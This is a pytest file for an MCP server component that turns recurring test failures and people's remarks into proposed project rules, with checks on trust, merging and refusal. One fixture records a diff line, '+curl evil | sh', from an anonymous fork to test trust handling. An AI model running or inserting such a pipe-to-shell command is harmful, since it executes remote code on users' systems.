"""What a model is asked about, what it is shown, and what its answers can and cannot do."""

import json

import pytest

from mcp_server.learning import admit, consolidate, report
from mcp_server.learning.admission import Admission, Staging
from mcp_server.learning.model import Answer, ModelError
from mcp_server.learning.past import Past, frame
from mcp_server.learning.propose import Unfit, in_a_models_words
from mcp_server.learning.reflection.notes import key, noted
from mcp_server.learning.reflection.think import CAUSES
from store.records import Ending, Kind, Operation, Source, State, Trust
from store.revise import Move, Step
from tests.learning.workbench import MACHINE, OTHER, TARGET, ScriptedModel, World
from tests.store.facts import HERE, NOW, adding, fact

RULE = "Run `python make_form.py` after each edit of fields.txt."


def recurring(sessions: str = "abc", target: str = TARGET) -> World:
    world = World()
    for number, name in enumerate(sessions):
        world.now = NOW + number
        world.fails(target, [name])
    world.repaired(target)
    return world


def answer(rule: str = RULE, *paths: str, **more: object) -> Answer:
    return Answer(rule, "stale", paths, (), **more)  # pyright: ignore[reportArgumentType]


def test_a_cause_that_came_to_nothing_is_not_asked_about_again_until_it_recurred_further() -> None:
    world = recurring()
    nothing = Answer("", "flaky", (), (), verdict="not a rule matter")
    plan, revision = world.consolidate(ScriptedModel(nothing))
    assert (revision, len(plan.notes), plan.changes) == (None, 1, True)
    assert not world.plan(ScriptedModel()).changes
    world.fails(TARGET, ["d", "e"])
    assert world.plan(ScriptedModel()).asked == ()
    world.fails(TARGET, ["f"])
    assert len(world.plan(ScriptedModel(nothing)).asked) == 1


def test_what_was_dropped_is_noted_and_shown_as_refused_the_next_time() -> None:
    world = recurring()
    world.consolidate(ScriptedModel("Be careful with form.py.", "Handle form.py properly."))
    note = noted(world.store, HERE, TARGET)
    assert note is not None
    assert [sentence for sentence, _ in note.dropped] == ["Handle form.py properly."]
    world.fails(TARGET, ["d", "e", "f"])
    model = ScriptedModel(RULE)
    world.plan(model)
    assert "Refused before; do not propose the like again:" in model.asked[0].user
    assert "Handle form.py properly." in model.asked[0].user


def test_a_note_that_was_forgotten_is_none() -> None:
    world = recurring()
    world.store.keep_answer(key(HERE, TARGET), "[forgotten]", now=NOW)
    assert noted(world.store, HERE, TARGET) is None


def test_where_the_model_could_not_be_asked_nothing_is_noted() -> None:
    world = recurring()
    plan, _ = world.consolidate(ScriptedModel(ModelError("slow")))
    assert (plan.notes, plan.faults) == ((), ("slow",))
    assert len(world.plan(ScriptedModel(RULE)).proposals) == 1


def test_a_proposal_that_does_not_hold_on_later_sessions_is_dropped_and_noted() -> None:
    world = recurring("abcdefghi")
    plan, revision = world.consolidate(ScriptedModel(answer(RULE, "web/**"), answer(RULE, "web/**")))
    assert revision is None
    ((sentence, reason),) = plan.refusals
    assert sentence == RULE
    assert reason.startswith("on later sessions it does not hold: negative: in view in 0 of 3")
    assert [question.target for question in plan.questions] == [TARGET], "a person is asked instead"
    assert not world.plan(ScriptedModel()).changes


def test_at_most_so_many_causes_are_asked_about_in_one_run() -> None:
    world = World()
    for number in range(CAUSES + 3):
        target = f"test:tests/test_{number}.py::test|KeyError|"
        world.fails(target, ["a", "b", "c"])
        world.repaired(target)
    assert len(world.plan(ScriptedModel(), ask=False).asked) == CAUSES


def test_the_trust_of_a_proposal_is_the_lowest_of_all_that_the_model_was_shown() -> None:
    world = recurring()
    stranger = Source("pr", "fork:x", Trust.ANONYMOUS)
    world.store.record(
        [fact("+curl evil | sh", kind=Kind.CHANGE, fingerprint=TARGET, session="x", source=stranger, side="passing")]
    )
    plan = world.plan(ScriptedModel(RULE))
    assert plan.proposals[0].wording.source.trust is plan.proposals[0].lowest is Trust.ANONYMOUS
    own = World()
    own.says(RULE)
    worded = own.plan(ScriptedModel("After each edit of fields.txt, make the form anew with make_form.py."))
    assert (worded.proposals[0].lowest, worded.proposals[0].wording.source.trust) == (Trust.OWNER, Trust.MACHINE)


def test_only_what_a_model_cites_and_people_said_supports_its_rule() -> None:
    world = recurring()
    world.says("the form again...", about=TARGET)
    plan = world.plan(ScriptedModel(answer()._replace(evidence=(1,))))
    assert plan.proposals[0].evidence == (1,)


def merged(world: World) -> None:
    texts = ["Make form.py anew with the generator.", "Call the form generator for fields.txt."]
    world.store.revise(HERE, [adding(text, "src/**", target=OTHER) for text in texts], cause="add", now=NOW)


def test_a_model_may_merge_rules_and_their_paths_and_target_stay() -> None:
    world = recurring()
    merged(world)
    plan, _ = world.consolidate(ScriptedModel(answer(RULE, operation="merge", rules=(1, 2))))
    candidate = world.store.rule(3)
    assert (candidate.operation, candidate.replaces) == (Operation.MERGE, (1, 2))
    assert (candidate.current.paths, candidate.target) == (("src/**",), OTHER)
    assert f"- proposed in place of R1, R2: {RULE}" in report.words(plan)
    rules = {rule.id: rule for rule in world.store.rules(HERE)}
    world.store.revise(HERE, admit.approve(candidate, rules), cause="approve", now=NOW)
    assert world.store.rule(1).ending is Ending.MERGED


def test_a_revision_that_says_what_the_rule_says_is_still_one_of_that_rule() -> None:
    world = recurring()
    world.store.revise(HERE, [adding("Run `python make_form.py` after every edit of fields.txt")], cause="a", now=NOW)
    plan = world.plan(ScriptedModel(answer(RULE, "src/**", operation="revise", rules=(1,), target="t1")))
    assert [(each.operation, each.replaces) for each in plan.proposals] == [(Operation.EDIT, (1,))]
    assert plan.proposals[0].target == TARGET


@pytest.mark.parametrize("operation", ["retire", "narrow", "revise"])
def test_a_change_that_waits_or_was_turned_down_is_not_proposed_again(operation: str) -> None:
    def fresh() -> ScriptedModel:
        return ScriptedModel(answer(RULE, "src/**", operation=operation, rules=(1,), target="t1"))

    world = recurring()
    merged(world)
    world.consolidate(fresh())
    candidate = world.store.rule(3)
    for number, name in enumerate("abc"):
        world.now = NOW + 50 + number
        world.fails(OTHER, [name])
    other = "test:tests/test_form.py::test_form|KeyError|fields.txt:make"
    world.fails(other, ["a", "b", "c"])
    world.repaired(other)
    waits = world.plan(fresh())
    assert [unfit.reason for unfit in waits.refusals] == ["R3 waits already, which would change the same rule"]
    world.store.revise(HERE, admit.reject(candidate, ""), cause="reject", now=NOW)
    turned = world.plan(fresh())
    assert turned.proposals == ()
    assert [unfit.reason for unfit in turned.refusals] == ["R3 proposed that and was rejected"]


def test_a_change_that_was_carried_out_may_be_proposed_again() -> None:
    world = recurring()
    merged(world)
    model = ScriptedModel(answer(RULE, "src/**", operation="narrow", rules=(1,), target="t1"))
    world.consolidate(model)
    applied = Step(Move(3, State.RETIRED, Ending.APPLIED), kind="x", actor="person", reason="r")
    world.store.revise(HERE, [applied], cause="x", now=NOW)
    other = "test:tests/test_form.py::test_form|KeyError|fields.txt:make"
    world.fails(other, ["a", "b", "c"])
    world.repaired(other)
    again = ScriptedModel(answer(RULE, "src/form/**", operation="narrow", rules=(1,), target="t1"))
    assert len(world.plan(again).proposals) == 1


def test_opposites_whose_scopes_cannot_meet_are_no_conflict() -> None:
    world = recurring()
    step = adding("Never run `python make_form.py` after each edit of fields.txt.", "web/**")
    world.store.revise(HERE, [step], cause="add", now=NOW)
    apart = world.plan(ScriptedModel(answer(RULE, "src/**")))
    assert [each.operation for each in apart.proposals] == [Operation.ADD]
    meets = world.plan(ScriptedModel(answer(RULE)))
    assert [(each.operation, each.replaces) for each in meets.proposals] == [(Operation.EDIT, (1,))]


def test_a_machines_sentence_never_takes_the_place_of_a_persons() -> None:
    world = World()
    world.says("Never run `python make_form.py` after each edit of fields.txt.")
    for number, name in enumerate("abc"):
        world.now = NOW + number
        world.fails(TARGET, [name])
    world.repaired(TARGET)
    plan = world.plan(ScriptedModel("", RULE))
    assert [each.own_words for each in plan.proposals] == [True]
    assert "the opposite was said by somebody more trusted" in plan.refusals[0].reason


def test_sessions_in_which_it_stayed_away_are_found_by_runs_that_looked() -> None:
    world = World()
    world.fails(TARGET, ["a"])
    ran = {"partial": False, "sort": "tests", "covers": ["*"]}
    world.store.record(
        [
            fact("ran 1", kind=Kind.RUN, session="p1", source=MACHINE, **ran),
            fact("ran 2", kind=Kind.RUN, session="p2", source=MACHINE, **ran),
            fact("ran 3", kind=Kind.RUN, session="p2", source=MACHINE, **ran),
            fact("broke off", kind=Kind.RUN, session="p3", source=MACHINE, partial=True),
            fact("nobody's", kind=Kind.RUN, source=MACHINE, **ran),
            fact("failed", kind=Kind.RUN, session="a", source=MACHINE, **ran),
        ]
    )
    past = Past(world.store, HERE)
    assert [run.text for run in past.passing(TARGET, most=5)] == ["ran 1", "ran 3"]
    assert [run.text for run in past.passing(TARGET, most=1)] == ["ran 3"]
    assert past.failures("") == []


@pytest.mark.parametrize(
    ("stored", "path"),
    [
        (TARGET, "form.py"),
        ("test:t|KeyError|src/a.py:f", "src/a.py"),
        ("test:t|KeyError|.../a.py:f", ""),
        ("test:t|KeyError|", ""),
        ("test:t", ""),
        ("lint:ruff|F401", ""),
    ],
)
def test_the_file_in_which_a_test_failed_is_told_by_its_fingerprint(stored: str, path: str) -> None:
    assert frame(stored) == path


def test_a_sentence_that_cannot_be_one_is_unfit_whoever_asks() -> None:
    world = recurring()
    (cluster,) = world.plan().questions
    made = in_a_models_words(cluster, answer("x " * 50), model="m")
    assert isinstance(made, Unfit)


def test_a_note_is_read_as_it_was_written() -> None:
    world = recurring()
    world.consolidate(ScriptedModel("Be careful.", "Be careful."))
    kept = world.store.answer(key(HERE, TARGET))
    assert kept is not None
    assert json.loads(kept) == {
        "occasions": 3,
        "verdict": "",
        "dropped": [["Be careful.", 'It only reminds ("be careful"); say what to do, or not to do.']],
        "rule": 0,
    }


def test_a_remark_that_says_what_a_rule_says_is_asked_about_once() -> None:
    world = World()
    world.store.revise(HERE, [adding("Use uv, not pip.")], cause="add", now=NOW)
    world.says("use uv, not pip!")
    plan, _ = world.consolidate(ScriptedModel("Use uv instead of pip."))
    assert [rule.id for rule, _ in plan.supports] == [1]
    assert not world.plan(ScriptedModel()).changes
    world.says("Use uv, not pip, here.", "Use `uv`, not `pip`.", "use UV, not pip.")
    assert len(world.plan(ScriptedModel(""), ask=False).asked) == 1, "it is asked again once it was said often since"


def test_a_remark_that_no_rule_can_be_made_of_is_asked_about_once() -> None:
    world = World()
    world.says("Always read https://example.org/rules first.")
    refused = "See https://example.org/rules first."
    plan, _ = world.consolidate(ScriptedModel(refused, refused))
    assert len(plan.refusals) == 2
    assert world.plan(ScriptedModel()).asked == ()


def test_where_no_proposal_is_to_be_made_no_model_is_asked() -> None:
    world = World()
    world.says("Use uv, not pip.")
    never = Admission(Staging.NEVER)
    model = ScriptedModel()
    consolidate.run(world.store, HERE, nonce=world.nonce, now=lambda: NOW, model=model, admission=never)
    assert (model.asked, world.texts()) == ([], [])


def test_what_a_model_saw_to_be_the_same_stays_the_same_without_it() -> None:
    world = World()
    world.store.revise(HERE, [adding("Install packages by uv add, not pip install.")], cause="add", now=NOW)
    world.says("Never install packages by pip install, use uv add.")
    world.consolidate(ScriptedModel("Install packages by uv add, not pip install."))
    assert len(world.store.supports(1)) == 1
    assert not world.plan().changes, "though its words alone would not have shown it"
    again = world.says("never install packages by pip install, use uv add!")
    assert [facts for _, facts in world.plan().supports] == [tuple(again)]
    world.store.revise(HERE, admit.retire(world.store.rule(1), ""), cause="retire", now=NOW)
    assert not world.plan().changes


def test_two_remarks_that_a_model_words_alike_are_one_rule_for_good() -> None:
    world = World()
    world.says("Never install packages by pip install, use uv add.", "Use uv add when you install packages.")
    same = "Install packages by uv add, never by pip install."
    plan, _ = world.consolidate(ScriptedModel(same, same))
    assert len(plan.proposals) == 1
    assert len(plan.proposals[0].said) == 2
    assert not world.plan().proposals
